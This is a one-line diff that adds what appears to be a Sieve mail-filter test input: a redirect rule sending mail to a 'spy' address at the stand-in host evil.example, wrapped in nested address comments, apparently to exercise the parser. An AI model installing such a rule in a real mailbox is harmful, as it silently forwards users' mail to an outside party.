@@ -1,0 +1,1 @@
+redirect "spy@(a(b)c) evil.example";
